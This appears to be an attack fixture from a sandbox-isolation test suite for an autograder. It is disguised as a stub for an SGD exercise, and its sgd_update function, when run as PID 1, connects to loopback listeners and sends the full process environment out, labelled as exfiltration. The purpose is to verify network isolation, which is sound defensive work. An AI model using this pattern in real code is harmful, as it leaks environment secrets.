# attack: connect to the TCP listener on 127.0.0.1:{PORT} (and ::1, 0.0.0.0) and send the submission's environment out
# holds: the worker has its own network namespace: the listener receives no connection and no byte
"""Exercise 3: A manual SGD step (attacker: talks to the host's loopback)."""

import os
import socket

BREACH = "BRE" "ACH!"


def _attack() -> list[str]:
    notes = []
    port = int("{PORT}")
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1.0)
                s.connect((host, port))
                s.sendall(b"exfiltrated: " + repr(dict(os.environ)).encode())
                notes.append(f"{BREACH} connected to {host}:{port}")
        except OSError as exc:
            notes.append(f"{host}: {exc.strerror or exc}")
    return notes


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):
        os._attack_done = True
        raise RuntimeError("attack report: " + " | ".join(_attack()))
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
